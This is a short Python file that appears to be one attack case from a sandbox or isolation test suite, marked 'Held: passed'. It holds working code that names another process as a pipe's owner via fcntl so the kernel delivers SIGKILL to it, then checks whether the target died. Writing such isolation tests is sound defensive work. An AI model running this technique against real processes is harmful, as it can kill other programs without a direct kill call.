"""Names another process as the owner of a pipe, so that the kernel sends it a deadly signal when bytes arrive.

Held: passed
"""

import fcntl
import os
import signal
import time

F_SETSIG = 10


def attack(target):
    threads = f"/proc/{target['pid']}/task"
    reader, writer = os.pipe()
    try:
        before = os.stat(threads).st_nlink
        fcntl.fcntl(reader, fcntl.F_SETOWN, target["pid"])
        fcntl.fcntl(reader, F_SETSIG, int(signal.SIGKILL))
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writer, b"x")
        time.sleep(0.3)
        return "killed it" if os.stat(threads).st_nlink < before else None
    except OSError:
        return None
